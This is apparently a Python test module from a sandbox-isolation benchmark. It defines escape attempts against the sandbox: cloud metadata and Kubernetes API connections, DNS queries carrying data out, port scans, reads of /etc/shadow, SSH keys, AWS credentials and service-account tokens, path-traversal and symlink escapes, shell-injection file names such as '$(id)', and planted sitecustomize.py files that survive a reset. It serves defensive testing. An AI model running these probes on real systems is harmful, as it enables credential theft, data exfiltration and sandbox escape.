"""Attacks on what lies beyond: networks, the machine's files and sockets, other sandboxes."""

from espalier.sandbox import SandboxRefused
from tests.benchmarks.attacks.attack import asking, program


def _connects(name, target, text=""):
    text = text or f"tried('{target}', lambda: connected(T['{target}']))"
    return program("network", name, text, control=True)


NETWORK = (
    _connects("the metadata service, by address", "metadata"),
    _connects(
        "the metadata service, as a cloud's own tools ask",
        "metadata",
        """
import urllib.request
ask = urllib.request.Request(
    f"http://{T['metadata'][0]}:{T['metadata'][1]}/latest/meta-data/", headers={"x": "y"})
tried("metadata", lambda: urllib.request.urlopen(ask, timeout=1.5).read())
""",
    ),
    _connects("a host of the internet, over TCP", "internet"),
    _connects(
        "a host of the internet, over UDP",
        "internet_udp",
        """tried("answer", lambda: answered(T["internet_udp"], b"ping"))""",
    ),
    _connects(
        "a host of the internet, over IPv6",
        "internet_6",
        "tried('internet_6', lambda: connected(T['internet_6'], socket.AF_INET6))",
    ),
    _connects(
        "a name server, to carry data out in names",
        "internet_udp",
        """
question = bytes.fromhex("123401000001000000000000") + b"\\x06secret\\x04test\\0\\0\\x01\\0\\x01"
tried("answer", lambda: answered(T["internet_udp"], question))
""",
    ),
    _connects("the API server", "api_server"),
    _connects("the API server, by its service address", "api_service"),
    _connects("the kubelet", "kubelet"),
    _connects("a program of the node, on the node's own address", "node"),
    _connects("the server of another sandbox", "other_sandbox"),
    _connects(
        "the loopback of the machine",
        "loopback",
    ),
    _connects(
        "every port of the way out, scanned",
        "internet",
        """
host, port = T["internet"]
for last in range(1, 30):
    place = (host.rsplit(".", 1)[0] + f".{last}", port)
    tried(f"{last}", lambda: connected(place, timeout_s=0.05))
""",
    ),
    program(
        "network",
        "raw packets, netlink and the host's own sockets",
        """
for family, kind in ((17, 3), (16, 3), (40, 1), (38, 5), (29, 3), (31, 3), (2, 3), (10, 3)):
    tried(f"family {family}", lambda: socket.socket(family, kind, 0) is not None)
tried("icmp", lambda: socket.socket(2, 3, 1) is not None)
""",
    ),
    program(
        "network",
        "change addresses, routes or devices of its network",
        """
for family in (socket.AF_INET, socket.AF_UNIX):
    for number in (0x8914, 0x8916, 0x890B, 0x8922):  # flags, address, route, MTU
        request = struct.pack("16sH22s", b"lo", 0, b"")
        tried(hex(number), lambda: fcntl.ioctl(socket.socket(family), number, request) is not None)
""",
    ),
    program(
        "network",
        "a local socket of the machine without a path",
        """
with socket.socket(socket.AF_UNIX) as s:
    tried("abstract", lambda: s.connect(T["abstract"]) or True)
""",
        control=True,
    ),
)

OTHERS = (
    program(
        "files",
        "a file of the machine",
        """
for path in (T["planted"], "/proc/1/root" + T["planted"], "/proc/self/root" + T["planted"],
             "/../.." + T["planted"], "/host" + T["planted"], "/oldroot" + T["planted"]):
    tried(path, lambda: open(path).read())
""",
        control=True,
    ),
    program(
        "files",
        "passwords, keys and tokens at their usual places",
        """
for path in ("/etc/shadow", "/root/.ssh/id_rsa", "/root/.kube/config", "/root/.aws/credentials",
             "/var/run/secrets/kubernetes.io/serviceaccount/token", "/run/secrets",
             "/var/run/docker.sock", "/run/containerd/containerd.sock", "/run/podman/podman.sock",
             "/etc/kubernetes", "/var/lib/kubelet", "/proc/1/environ"):
    tried(path, lambda: os.listdir(path) if os.path.isdir(path) else open(path, "rb").read(1))
""",
    ),
    program(
        "others",
        "System V memory and message queues of the machine",
        """
for path in ("/proc/sysvipc/shm", "/proc/sysvipc/msg", "/proc/sysvipc/sem"):
    tried(path, lambda: len(open(path).readlines()) > 1)
called("shmget", 29, T["shared_memory"], 4096, 0o600)
""",
    ),
    program(
        "others",
        "processes of the machine and of other sandboxes",
        """
seen = [int(p) for p in os.listdir("/proc") if p.isdigit()]
for p in seen:
    try: words = open(f"/proc/{p}/cmdline").read()
    except OSError: continue
    if T["mark"] in words: breach(p)
tried("kill", lambda: os.kill(T["pid"], 0) or True if T["pid"] not in seen else False)
""",
        control=True,
    ),
)

_LOOK = """
import os
for pid in filter(str.isdigit, os.listdir("/proc")):
    try: words = open(f"/proc/{pid}/cmdline", "rb").read()
    except OSError: continue
    if words.startswith(b"sleep"): print(words)
"""


async def _put_and_get(sandbox, targets):
    breaches = []
    planted = str(targets["planted"])
    paths = (
        "../x", "a/../../x", "/etc/passwd", planted, "..", "/", "", ".", "a/..", "x\0y",
        "\0", "..\0", "....//x", "/proc/self/environ", "//etc/passwd", "./../x",
    )  # fmt: skip
    for path in paths:
        for ask in (sandbox.get(path), sandbox.put(path, b"BREACH")):
            try:
                await ask
            except SandboxRefused:
                continue
            if "..../" not in path:  # a name like any other
                breaches.append(repr(path))
    return breaches


async def _links(sandbox, targets):
    breaches = []
    for target in (targets["planted"], "/etc/passwd", "/proc/1/environ", "/proc/self/mem"):
        await sandbox.exec(["ln", "-sfn", str(target), "link"])
        await sandbox.exec(["ln", "-sfn", str(target).rpartition("/")[0], "way"])
        name = str(target).rpartition("/")[2]
        for ask in (sandbox.get("link"), sandbox.get(f"way/{name}"), sandbox.put("way/x", b"x")):
            try:
                await ask
            except SandboxRefused:
                continue
            breaches.append(str(target))
    return breaches


async def _things_that_are_no_files(sandbox, _):
    await sandbox.exec(["sh", "-c", "mkfifo pipe; mkdir dir; ln -s /dev/zero zero; ln -s . loop"])
    breaches = []
    for path in ("pipe", "dir", "zero", "loop/loop/loop/pipe"):
        try:
            await sandbox.get(path)
        except SandboxRefused:
            continue
        breaches.append(path)
    return breaches


async def _names(sandbox, _):
    breaches = []
    for name in (
        "\u202egnp.exe", "a\u0300", "\ufeff", "\u2028", "-rf", "~", "$(id)", "`id`", "; id",
        "%2e%2e%2fx", "con", "\u2025/x", "\uff0e\uff0e/x", "n" * 255,
    ):  # fmt: skip
        await sandbox.put(name, name.encode())
        if await sandbox.get(name) != name.encode():
            breaches.append(repr(name))
    await sandbox.put("a/" * 5000 + "x", b"")  # deep, and inside: the reset has to get through it
    for name in ("n" * 256, "a/" * 5000 + "n" * 256, "n/" * 9000 + "x", "\ud800"):
        try:
            await sandbox.put(name, b"")
        except SandboxRefused:
            continue
        breaches.append(repr(name[:20]))
    listed = (await sandbox.exec(["ls", "-A", "/", "/tmp"])).stdout
    return breaches + (["outside"] if b"gnp" in listed or b"$(id)" in listed else [])


async def _left_for_the_next(sandbox, _):
    await sandbox.python("""
import os, builtins
builtins.print = lambda *_: None
for folder in ("/workspace", "/tmp", "/dev/shm", "/var/tmp"):
    for name in ("sitecustomize.py", "usercustomize.py", ".bashrc", ".profile", "json.py", "ls"):
        try:
            with open(f"{folder}/{name}", "w") as file:
                file.write("#!/bin/sh\\nprint('BREACH')\\necho BREACH\\n")
            os.chmod(f"{folder}/{name}", 0o777)
        except OSError:
            pass
if os.fork() == 0:
    os.setsid()
    os.execvp("sleep", ["sleep", "60"])
""")
    await sandbox.reset()
    left = []
    for ask in (
        sandbox.exec(["ls", "-A"]),
        sandbox.run_python(_LOOK),
        sandbox.python("import json; json.dumps('fine')[:0]"),
    ):
        said = (await ask).stdout
        if said not in (b"", b"''\n"):
            left.append(repr(said))
    return left


ASKED = (
    asking(
        "files",
        "put and get by .., absolute, empty and NUL paths",
        _put_and_get,
        milder="tried('open', lambda: open('/workspace/../proc/self/status').read(1))",
    ),
    asking(
        "files",
        "put and get over links",
        _links,
        milder="os.symlink('/proc/self', 'l')\ntried('l', lambda: open('l/status').read(1))",
    ),
    asking(
        "files",
        "get of a pipe, a folder, a device, a loop of links",
        _things_that_are_no_files,
        milder="tried('a device', lambda: open('/dev/zero', 'rb').read(1))",
    ),
    asking("files", "names in Unicode, of shells, and too long", _names),
    asking(
        "others",
        "something left for the next borrower",
        _left_for_the_next,
        milder="""
with open("json.py", "w") as file: file.write("print('BREACH left')")
subprocess.run([sys.executable, "-c", "import json"])
""",
    ),
)
ATTACKS = (*NETWORK, *OTHERS, *ASKED)
